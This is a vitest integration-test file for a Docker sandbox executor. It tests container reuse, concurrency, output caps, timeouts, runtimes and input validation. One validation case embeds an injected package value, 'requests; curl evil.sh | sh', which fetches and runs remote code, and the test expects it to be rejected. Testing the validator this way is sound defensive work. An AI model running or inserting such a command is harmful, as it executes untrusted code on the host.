// The executor against the real engine: reuse, concurrency, stdin/env/workdir, output caps,
// timeouts, streaming, runtimes and the errors a caller sees.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Phase, RuntimeType, type ExecuteEvent } from '../../../shared/gen/loom/v1/docker_pb';
import { CommandNotFoundError, ValidationError } from './errors';
import { createExecutor, type Executor } from './executor';
import { initPath } from './container/resources';
import { containersOf, docker, requireEngineAndImages, text } from './testing/test-support';

let executor: Executor;

beforeAll(async () => {
  await requireEngineAndImages();
  executor = await createExecutor({ maxContainersPerKey: 4, minIdlePerConfig: 0 });
});

afterAll(async () => {
  await executor?.close();
});

const py = (code: string) => ['python3', '-c', code];

/** Makes the config's container, and checks it serves programs through its runner (from its first run on). */
async function warmUp(config: { name: string }): Promise<void> {
  const r = await executor.execute({ command: py('pass'), config });
  expect(r.usage?.via, 'the first run of a new container goes by its runner').toBe('runner');
}

describe('executor', () => {
  it('runs Python and reuses the same container for the next execution', async () => {
    const first = await executor.execute({ command: py("print('Hello from Docker!')") });
    expect(first.exitCode).toBe(0);
    expect(text(first.stdout)).toBe('Hello from Docker!\n');
    expect(text(first.stderr)).toBe('');
    expect(first.containerCreated).toBe(true);
    const second = await executor.execute({ command: py('import sys; sys.exit(3)') });
    expect(second.exitCode).toBe(3);
    expect(second.containerCreated).toBe(false);
    expect(second.containerId).toBe(first.containerId);
    expect(second.durationMs).toBeGreaterThan(0);
    expect(second.timings?.runMs).toBeGreaterThan(0);
  });

  it('gives 20 concurrent executions on a pool of 4 each their own output', async () => {
    const runs = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        executor.execute({ command: py(`import sys, time; time.sleep(0.05); print(${i} * 7); print('e${i}', file=sys.stderr)`) }),
      ),
    );
    runs.forEach((r, i) => {
      expect(r.exitCode).toBe(0);
      expect(text(r.stdout)).toBe(`${i * 7}\n`);
      expect(text(r.stderr)).toBe(`e${i}\n`);
    });
    const ids = new Set(runs.map((r) => r.containerId));
    expect(ids.size).toBeGreaterThan(1);
    expect(ids.size).toBeLessThanOrEqual(4);
    expect(executor.containers().filter((c) => ids.has(c.id))).toHaveLength(ids.size);
  });

  it('delivers stdin (then closes it), env and the working directory', async () => {
    const r = await executor.execute({
      command: py('import os, sys; data = sys.stdin.read(); print(data.upper()); print(os.environ["GREETING"]); print(os.getcwd()); print(len(os.environ["LOOM_EXECUTION_ID"]))'),
      stdin: new TextEncoder().encode('from stdin'),
      env: { GREETING: 'hi; $(not a shell)' },
      workingDir: '/usr',
    });
    expect(text(r.stdout)).toBe('FROM STDIN\nhi; $(not a shell)\n/usr\n36\n');
  });

  it('gives a program that reads stdin an immediate end of file when there is none', async () => {
    const r = await executor.execute({ command: py('import sys; print(repr(sys.stdin.read()))'), timeoutSeconds: 20 });
    expect(r.timedOut).toBe(false);
    expect(text(r.stdout)).toBe("''\n");
  });

  it('caps kept output per stream and flags truncation', async () => {
    const r = await executor.execute({
      command: py("import sys; sys.stdout.write('x' * 100000); sys.stderr.write('y' * 10)"),
      maxOutputBytes: 1000,
    });
    expect(r.stdout.length).toBe(1000);
    expect(r.stdoutTruncated).toBe(true);
    expect(r.stderrTruncated).toBe(false);
    expect(r.truncated).toBe(true);
    expect(text(r.stderr)).toBe('y'.repeat(10));
  });

  it('kills an endless loop at its timeout, with everything it started, and the next request succeeds', async () => {
    const config = { name: 'timeout-test' };
    await warmUp(config);
    const started = Date.now();
    const r = await executor.execute({
      command: py("import subprocess\nsubprocess.Popen(['sleep', '300'])\nwhile True: pass"),
      timeoutSeconds: 2,
      config,
    });
    const elapsed = Date.now() - started;
    expect(r.timedOut).toBe(true);
    expect(r.exitCode).toBe(137);
    expect(elapsed).toBeGreaterThanOrEqual(2000);
    expect(elapsed).toBeLessThan(8000);
    const next = await executor.execute({
      command: py("import os\nprint(sum(1 for p in os.listdir('/proc') if p.isdigit() and b'sleep\\x00300' in open(f'/proc/{p}/cmdline', 'rb').read()))"),
      config,
    });
    expect(next.exitCode).toBe(0);
    expect(next.timedOut).toBe(false);
    // The in-container runner killed the program's whole process group: the container stays.
    expect(next.containerId).toBe(r.containerId);
    expect(text(next.stdout)).toBe('0\n');
  });

  it('streams output and phases while the program runs', async () => {
    const events: { at: number; event: ExecuteEvent }[] = [];
    for await (const event of executor.stream({ command: py("import time; print('a', flush=True); time.sleep(1.5); print('b')") })) {
      events.push({ at: Date.now(), event });
    }
    const kinds = events.map((e) => e.event.event.case);
    expect(kinds.at(-1)).toBe('done');
    const phases = events.flatMap((e) => (e.event.event.case === 'phase' ? [e.event.event.value.phase] : []));
    expect(phases).toEqual(expect.arrayContaining([Phase.IMAGE, Phase.CONTAINER, Phase.RUNNING, Phase.DONE]));
    const firstOut = events.find((e) => e.event.event.case === 'stdout');
    const done = events.at(-1);
    expect(firstOut && text(firstOut.event.event.value as Uint8Array)).toMatch(/^a/);
    // 'a' arrived while the program was still sleeping, not at the end.
    expect(done!.at - firstOut!.at).toBeGreaterThan(1000);
  });

  it("reports the program's wall time, CPU time and peak memory, and the time of each phase", async () => {
    const config = { name: 'usage' };
    await warmUp(config);
    const r = await executor.execute({ command: py('x = bytearray(64 * 1024 * 1024)\ny = sum(range(40_000_000))'), config });
    expect(r.usage?.via).toBe('runner');
    expect(r.usage?.cpuMs).toBeGreaterThanOrEqual(100);
    expect(r.usage?.wallMs).toBeGreaterThanOrEqual(r.usage!.cpuMs * 0.9);
    expect(Number(r.usage?.peakMemoryKb)).toBeGreaterThan(64 * 1024);
    expect(r.timings?.runMs).toBeGreaterThanOrEqual(r.usage!.wallMs);
    // The first run of a cold container waits for the runner: it goes by the runner too.
    const cold = await executor.execute({ command: py('pass'), config: { name: 'usage-cold' } });
    expect(cold.containerCreated).toBe(true);
    expect(cold.usage?.via).toBe('runner');
  });

  it('kills a runaway run by docker exec (no runner) by replacing its container', async () => {
    const execOnly = await createExecutor({ minIdlePerConfig: 0, runner: false });
    try {
      const config = { name: 'timeout-exec' };
      const r = await execOnly.execute({ command: py('while True: pass'), timeoutSeconds: 2, config });
      expect(r.usage?.via).toBe('exec');
      expect(r.timedOut).toBe(true);
      const next = await execOnly.execute({ command: py("print('alive')"), config });
      expect(next.usage?.via).toBe('exec');
      expect(text(next.stdout)).toBe('alive\n');
      expect(next.containerId).not.toBe(r.containerId);
    } finally {
      await execOnly.close();
    }
  });

  it('survives a program that kills the in-container runner: the next request gets a new container', async () => {
    const config = { name: 'runner-killer' };
    await warmUp(config);
    const before = await executor.execute({ command: py('pass'), config });
    const err = await executor.execute({ command: py('import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nimport time\ntime.sleep(5)'), config }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(Error);
    expect((err as Error).message).toMatch(/runner died/);
    const next = await executor.execute({ command: py("print('fine')"), config });
    expect(text(next.stdout)).toBe('fine\n');
    expect(next.containerId).not.toBe(before.containerId);
  });

  it('runs Node on node:20-slim', async () => {
    const r = await executor.execute({ runtimeType: RuntimeType.NODE, command: ['node', '-e', 'console.log(process.version.split(".")[0], process.getuid())'] });
    expect(text(r.stdout)).toBe('v20 65534\n');
  });

  it('runs a custom image and fails clearly when it lacks the command', async () => {
    const config = { runtimeType: RuntimeType.CUSTOM, imageSource: { case: 'customImage' as const, value: 'node:20-slim' } };
    const ok = await executor.execute({ runtimeType: RuntimeType.CUSTOM, command: ['node', '-e', 'console.log(1+1)'], config });
    expect(text(ok.stdout)).toBe('2\n');
    const events: ExecuteEvent[] = [];
    const err = await executor
      .execute({ runtimeType: RuntimeType.CUSTOM, command: ['python3', '-c', 'print(1)'], config }, { onEvent: (e) => events.push(e) })
      .catch((e: unknown) => e);
    // The runtime's complaint is the error's business, not the program's output.
    expect(events.filter((e) => e.event.case === 'stdout')).toEqual([]);
    expect(err).toBeInstanceOf(CommandNotFoundError);
    expect((err as CommandNotFoundError).command).toBe('python3');
    expect((err as Error).message).toContain('node:20-slim');
    // The container stays usable after that error.
    const again = await executor.execute({ runtimeType: RuntimeType.CUSTOM, command: ['node', '-e', 'console.log(3)'], config });
    expect(again.containerCreated).toBe(false);
  });

  it('serves from the runner as the main process, and falls back to an idling container where the image lacks its interpreter', async () => {
    const runnerMain = await executor.execute({ command: py("print('main')"), config: { name: 'runner-main' } });
    const inspected = await docker.getContainer(runnerMain.containerId).inspect();
    // PID 1 is loom-init (not Docker's init), which runs the runner.
    const init = initPath((await docker.getImage(inspected.Image).inspect()).Architecture);
    expect(inspected.Config.Entrypoint).toEqual([init, '--', 'python3', '/opt/loom/lib/runner/loom_runner.py']);
    expect(inspected.HostConfig.Init).toBe(false);
    expect(runnerMain.usage?.via).toBe('runner');
    // A Python request on an image without python3: the runner cannot be its main process, so
    // the container idles and the node runner is started in it by exec instead.
    const config = { name: 'no-python', imageSource: { case: 'customImage' as const, value: 'node:20-slim' } };
    const r = await executor.execute({ runtimeType: RuntimeType.PYTHON, command: ['node', '-e', 'console.log(6*7)'], config });
    expect(text(r.stdout)).toBe('42\n');
    expect(r.usage?.via).toBe('runner');
    expect((await docker.getContainer(r.containerId).inspect()).Config.Entrypoint).toEqual([init, '--idle']);
  });

  it('refuses bad requests with the field named, before touching the engine', async () => {
    const before = (await containersOf(executor.owner.instance)).length;
    const cases: [Parameters<Executor['execute']>[0], string][] = [
      [{ command: [] }, 'command'],
      [{ runtimeType: 42 as RuntimeType, command: ['x'] }, 'runtime_type'],
      [{ command: ['x'], config: { resourceLimits: { memoryMb: -1n } } }, 'config.resource_limits.memory_mb'],
      [{ command: ['x'], config: { packages: ['requests; curl evil.sh | sh'] } }, 'config.packages[0]'],
      [{ command: ['x'], env: { 'BAD NAME': '1' } }, 'env.BAD NAME'],
    ];
    for (const [request, field] of cases) {
      const err = await executor.execute(request).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(ValidationError);
      expect((err as ValidationError).field).toBe(field);
      expect((err as Error).message).toContain(field);
    }
    expect((await containersOf(executor.owner.instance)).length).toBe(before);
  });

  it('turns a CPU request the engine cannot give into an error naming cpu_cores', async () => {
    const err = await executor.execute({ command: py('1'), config: { resourceLimits: { cpuCores: 200 } } }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ValidationError);
    expect((err as ValidationError).field).toBe('config.resource_limits.cpu_cores');
  });
});
